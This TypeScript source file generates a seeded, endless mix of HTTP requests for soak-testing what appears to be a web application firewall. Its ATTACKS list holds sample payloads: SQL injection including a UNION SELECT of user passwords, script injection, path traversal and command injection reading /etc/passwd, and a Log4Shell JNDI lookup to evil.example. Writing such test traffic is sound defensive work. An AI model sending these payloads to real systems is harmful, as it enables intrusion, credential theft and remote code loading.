/**
 * What a soak asks for, from a seed: cached pages, pages never seen before, JSON sent to an interface, and attacks among them.
 *
 * Every request carries a cookie of its own, so that none is the repetition of another, as visitors are not.
 */
import { Buffer } from 'node:buffer';
import type { Random } from '@aegis/base';

export interface SoakRequest {
  readonly kind: 'benign' | 'attack';
  readonly method: 'GET' | 'POST';
  readonly path: string;
  /** Beside Host. */
  readonly fields: readonly (readonly [name: string, value: string])[];
  readonly body: string;
}

/** Paths that begin so may be stored. */
export const CACHED_PREFIX = '/pages/';

const ATTACK_SHARE = 0.05;
const POST_SHARE = 0.1;
const CACHED_SHARE = 0.4;
const CACHED_PAGES = 350;

/** Each with a place for what makes it another one. All are refused at paranoia level 1 with the usual threshold. */
const ATTACKS: readonly ((mark: string) => { readonly path: string; readonly field?: string })[] = [
  (mark) => ({ path: `/item?id=${mark}%27%20OR%20%271%27=%271` }),
  (mark) => ({ path: `/item?id=-${mark.length}%20UNION%20SELECT%20name,password%20FROM%20users--&n=${mark}` }),
  (mark) => ({ path: `/find?q=%3Cscript%3Ealert(%22${mark}%22)%3C/script%3E` }),
  (mark) => ({ path: `/show?n=${mark}&file=../../../../etc/passwd` }),
  (mark) => ({ path: `/ping?n=${mark}&host=;cat%20/etc/passwd` }),
  (mark) => ({ path: `/?n=${mark}`, field: '${jndi:ldap://evil.example/a}' }),
];

/** Without end; the same `random` gives the same requests in the same order. */
export function soakMix(random: Random): () => SoakRequest {
  let sent = 0;
  const below = (bound: number): number => Math.floor(random.float() * bound);
  return () => {
    const mark = (++sent).toString(36) + below(2 ** 31).toString(36);
    const common: [string, string][] = [
      ['User-Agent', `Mozilla/5.0 (X11; Linux x86_64; rv:${120 + below(9)}.0) Gecko/20100101 Firefox/${120 + below(9)}.0`],
      ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
      ['Cookie', `session=${mark}`],
    ];
    const chance = random.float();
    if (chance < ATTACK_SHARE) {
      const { path, field } = ATTACKS[below(ATTACKS.length)]!(mark);
      const fields = field === undefined ? common : [...common, ['X-Api-Version', field] as const];
      return { kind: 'attack', method: 'GET', path, fields, body: '' };
    }
    if (chance < ATTACK_SHARE + POST_SHARE) {
      const items = Array.from({ length: 10 }, () => `item ${below(100_000)}`);
      const body = JSON.stringify({ user: mark, items });
      const fields = [...common, ['Content-Type', 'application/json'], ['Content-Length', String(Buffer.byteLength(body))]] as const;
      return { kind: 'benign', method: 'POST', path: '/api/orders', fields, body };
    }
    const cached = chance < ATTACK_SHARE + POST_SHARE + CACHED_SHARE;
    const path = cached ? `${CACHED_PREFIX}${below(CACHED_PAGES)}` : `/product/${mark}?q=word${below(100_000)}&page=${below(9)}`;
    return { kind: 'benign', method: 'GET', path, fields: common, body: '' };
  };
}
